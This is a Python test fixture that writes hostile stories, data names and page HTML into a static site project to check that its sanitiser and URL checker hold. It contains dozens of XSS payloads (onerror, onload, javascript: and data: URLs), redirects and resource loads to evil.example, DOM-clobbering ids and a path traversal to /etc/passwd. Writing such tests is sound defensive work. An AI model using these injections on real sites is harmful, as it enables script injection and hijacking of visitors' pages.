"""A project whose every contributor-written text is a script payload: one story of each collection, the
data files' names, media file names, raw HTML in hand-written pages. Used by tests/test_hostile_render.py (build, page scan, Chromium).

Payloads differ per field so that a payload seen running can be traced to the field it came from
(each calls alert() with a number, or navigates away, or loads from EVIL).
"""

from __future__ import annotations

import unicodedata
from pathlib import Path

import yaml

EVIL = "evil.example"

# Markup that would run, navigate or load from another host if it were printed as HTML.
PAYLOADS = [
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(2)>',
    "'><script>alert(3)</script>",
    "</script><script>alert(4)</script>",
    f'<meta http-equiv="refresh" content="0;url=https://{EVIL}/">',
    "&lt;img src=x onerror=alert(5)&gt;",
    "&#60;script&#62;alert(6)&#60;/script&#62;",
    "<!--<script>alert(7)//-->",
    '<a href="javascript:alert(8)">点这里</a>',
    f'<base href="https://{EVIL}/">',
    f"<link rel=stylesheet href=https://{EVIL}/x.css>",
    "<iframe src=javascript:alert(9)></iframe>",
    "&#x2028;</script><!--<script>alert(10)</script>",  # (a raw U+2028 is refused by the check)
    "{{ config }}{% raw %}${alert(11)}`",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<svg><animate onbegin=alert(12) attributeName=x dur=1s>",
    "<details open ontoggle=alert(13)>",
    '" autofocus onfocus="alert(14)',
    "<x onclick=alert(15)>点</x>",
    "<title>x</title><script>alert(16)</script>",
    f"甲, url:https://{EVIL}/, image:https://{EVIL}/i.png\\, title:乙",  # another field in data-pagefind-meta
]

# Web addresses the checker accepts: only their rebuilt, percent-encoded form reaches an href.
GOOD_URLS = [
    "https://example.org/a?q=%22%3E%3Csvg%20onload=alert(17)%3E",
    "https://例子.测试/文章?页=1#第二节",
    "HTTP://EXAMPLE.org:8080/path/;p?x=1&y=2",
]

# Addresses the checker refuses, with what each tries.
BAD_URLS = [
    "javascript:alert(20)",
    "JaVaScRiPt:alert(21)",
    "java\tscript:alert(22)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgyMyk8L3NjcmlwdD4=",
    "vbscript:msgbox(24)",
    f"//{EVIL}/x",
    'https://example.org/" onmouseover="alert(25)',
    "https://example.org/'><script>alert(26)</script>",
    "https://example.org/\nx",
    "https://example.org/\u202ex",
    f"https://example.org@{EVIL}/",
    "https://example.org/a b",
    "http://localhost/",
    "https:example.org",
    "\x1b[31mhttps://example.org/",
]
# As they can stand in a story file: the check refuses a control, bidi or format character (\t, \x1b, U+202E)
# in a file or a value before anything else (the input side), so those stay in the unit tests of safe_url.
FILE_BAD_URLS = [url for url in BAD_URLS if not any(unicodedata.category(c).startswith("C") for c in url)]
BAD_MEDIA = [
    "javascript:alert(30)",
    f"https://{EVIL}/x.jpg",
    f"//{EVIL}/x.jpg",
    "assets/images/../../../etc/passwd",
    'assets/images/x.jpg" onerror="alert(31)',
    "data:image/svg+xml,<svg onload=alert(32)>",
    "/assets/images/cover.png",
]

# Story bodies: raw HTML that must be cleaned, ids that would clobber the site's own configuration.
BODY = f"""
## 生平 {{: #__config }}

<p id="kiosk-config">{{"home": "https://{EVIL}/", "base": "https://{EVIL}/"}}</p>
<p id="__search" class="md-search ql-search kiosk-overlay">名字冲突</p>
<form name="search"><input name="query"></form>
<a name="kiosk-qr-0" id="kiosk-qr-0" href="#kiosk-qr-0">链接</a> <a href="https://example.org/" target="_top">外站</a>
<img src="/assets/images/cover.png" onerror=alert(44) alt="图"> <svg onload=alert(45)></svg> <math><mi>x</mi></math>
<iframe src="https://{EVIL}/"></iframe> <object data="https://{EVIL}/x"></object> <embed src="https://{EVIL}/x">
<meta http-equiv="refresh" content="0;url=https://{EVIL}/"> <base href="https://{EVIL}/">
<style>body{{background:url(https://{EVIL}/x.png)}}</style> <div style="background:url(https://{EVIL}/y.png)">样式</div>
<script>alert(47)</script> <noscript><img src=/assets/images/cover.png onerror=alert(48) alt=图></noscript>
<template><img src=/assets/images/cover.png onerror=alert(49) alt=图></template> <details open ontoggle=alert(50)>细节</details>

[见上](#__config) 与脚注[^1]

[^1]: 脚注 <img src=/assets/images/cover.png onerror=alert(53) alt=图>

### 第二节

正文。
"""

# Hand-written pages (docs/*.md) come by pull request too: raw HTML appended to the home and campaign pages.
DOCS_HTML = f"""

<p id="__config">{{"base": "https://{EVIL}/"}}</p> <img src="/assets/images/cover.png" onerror="alert(60)" alt="图">
<script>alert(61)</script> <a href="javascript:alert(62)">链接</a> <iframe src="https://{EVIL}/"></iframe>
<meta http-equiv="refresh" content="0;url=https://{EVIL}/">
"""

# Links in a body that the check refuses, one per line (the check names each line).
REFUSED_BODY = [
    "[坏链接](javascript:alert(51))",
    "[坏链接二](<JaVaScRiPt:alert(52)>)",
    '<a href="  javascript:alert(41)">空格</a>',
    '<a href="jav&#x09;ascript:alert(42)">实体</a>',
    '<a href="data:text/html,<script>alert(43)</script>">数据</a>',
    f'<a href="//{EVIL}/">外站</a>',
    '<math><mi xlink:href="javascript:alert(46)">x</mi></math>',
    '<img src="vbscript:msgbox(47)" alt=图>',
    "[引用]: javascript:alert(48)",
]

# A 1×1 PNG (a real image, far below the size limit).
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
)


def payload(index: int) -> str:
    return PAYLOADS[index % len(PAYLOADS)]


def _story(meta: dict, body: str = BODY) -> str:
    body += "\n" + meta["title"][:4] + "\n"  # 标题N: each body its own (the check refuses the same text twice)
    return "---\n" + yaml.safe_dump(meta, allow_unicode=True, sort_keys=False, width=10_000) + "---\n" + body


def _sources(start: int, urls=GOOD_URLS) -> list[dict]:
    return [
        {
            "title": "来源" + payload(start + i),
            "author": payload(start + i + 1),
            "publisher": payload(start + i + 2),
            "year": 1923,
            "url": url,
            "page": payload(start + i + 3),
        }
        for i, url in enumerate(urls)
    ]


def _common(n: int) -> dict:
    return {
        "title": f"标题{n}" + payload(n),
        "summary": "摘要" + payload(n + 1),
        "tags": [f"标签{n}" + payload(n + 2), payload(n + 3)],
        "cover": "assets/images/cover.png",
        "cover_alt": payload(n + 4),
        "featured": True,
        "date": "2024-05-01",
    }


def write_hostile_stories(root: Path) -> None:
    """Replace the copy's stories with one hostile story per collection; poison data/ names; add media."""
    root = Path(root)
    for folder in ("officials", "letters", "units"):
        for path in (root / "stories" / folder).glob("*.md"):
            path.unlink()
    images = root / "docs" / "assets" / "images"
    images.mkdir(parents=True, exist_ok=True)
    (images / "cover.png").write_bytes(PNG)
    videos = root / "docs" / "assets" / "videos"
    videos.mkdir(parents=True, exist_ok=True)
    (videos / "clip.mp4").write_bytes(b"\x00\x00\x00\x18ftypmp42")
    (videos / "clip.png").write_bytes(PNG)
    (videos / "clip.vtt").write_text("WEBVTT\n\n00:00.000 --> 00:01.000\n<b>字幕</b>\n", encoding="utf-8")

    official = {
        **_common(0),
        "name": "姓名" + payload(5),
        "era": "xinzhongguo",
        "born": 1898,
        "died": 1986,
        "office": "官职" + payload(6),
        "township": "sanguansi",
        "sources": _sources(7),
    }
    letter = {
        **_common(8),
        "author": "写信人" + payload(9),
        "relation": "关系" + payload(10),
        "written": 2023,
        "township": "lingyang",
        "consent": True,
        "sources": _sources(11),
    }
    unit = {
        **_common(12),
        "unit": "单位" + payload(13),
        "unit_type": "organ",
        "township": "lingyang",
        "demonstration": True,
        "year": 2023,
        "highlights": [payload(14), payload(15), payload(16)],
        "video": "assets/videos/clip.mp4",
        "video_poster": "assets/videos/clip.png",
        "video_captions": "assets/videos/clip.vtt",
    }
    unit["title"], letter["summary"] = "标题12" + payload(20), "摘要" + payload(20)  # the Pagefind field payload
    (root / "stories" / "officials" / "hostile-official.md").write_text(_story(official), encoding="utf-8")
    (root / "stories" / "letters" / "hostile-letter.md").write_text(_story(letter), encoding="utf-8")
    (root / "stories" / "units" / "hostile-unit.md").write_text(_story(unit), encoding="utf-8")
    _poison_data(root)
    for name in ("index.md", "campaign.md"):
        with (root / "docs" / name).open("a", encoding="utf-8") as page:
            page.write(DOCS_HTML)


def _poison_data(root: Path) -> None:
    """data/ is contributed by pull request too: names of a township, a unit type and an era."""
    path = root / "data" / "townships.yml"
    towns = yaml.safe_load(path.read_text(encoding="utf-8"))
    towns["lingyang"]["name"] = "零阳" + payload(17)
    path.write_text(yaml.safe_dump(towns, allow_unicode=True, sort_keys=False), encoding="utf-8")
    path = root / "data" / "unit-types.yml"
    units = yaml.safe_load(path.read_text(encoding="utf-8"))
    units["organ"]["name"] = "机关" + payload(18)
    units["organ"]["description"] = payload(19)
    path.write_text(yaml.safe_dump(units, allow_unicode=True, sort_keys=False), encoding="utf-8")
    path = root / "data" / "eras.yml"
    eras = yaml.safe_load(path.read_text(encoding="utf-8"))
    eras[-1]["name"] = "新中国" + payload(3)
    path.write_text(yaml.safe_dump(eras, allow_unicode=True, sort_keys=False), encoding="utf-8")
    # the home page's quotation comes from a story: here the hostile letter, whose title is shown beside it
    path = root / "data" / "site.yml"
    site = yaml.safe_load(path.read_text(encoding="utf-8"))
    site["quotes"] = [{"story": "letters/hostile-letter", "text": "名字冲突"}]
    path.write_text(yaml.safe_dump(site, allow_unicode=True, sort_keys=False), encoding="utf-8")


def write_refused_story(root: Path) -> Path:
    """A story whose sources and media carry every refused address (the check must stop it)."""
    meta = {
        "title": "拒绝的网址",
        "summary": "每个网址都应被拒绝。",
        "name": "某人",
        "era": "xinzhongguo",
        "cover": BAD_MEDIA[0],
        "cover_alt": "图",
        "video": BAD_MEDIA[1] + ".mp4",
        "video_poster": BAD_MEDIA[4],
        "video_captions": BAD_MEDIA[3] + ".vtt",
        "sources": [{"title": f"来源{i}", "url": url} for i, url in enumerate(FILE_BAD_URLS)],
    }
    path = root / "stories" / "officials" / "refused-urls.md"
    path.write_text(_story(meta, "正文。\n\n" + "\n\n".join(REFUSED_BODY) + "\n"), encoding="utf-8")
    return path


__all__ = [
    "PAYLOADS",
    "GOOD_URLS",
    "BAD_URLS",
    "BAD_MEDIA",
    "REFUSED_BODY",
    "EVIL",
    "write_hostile_stories",
    "write_refused_story",
]
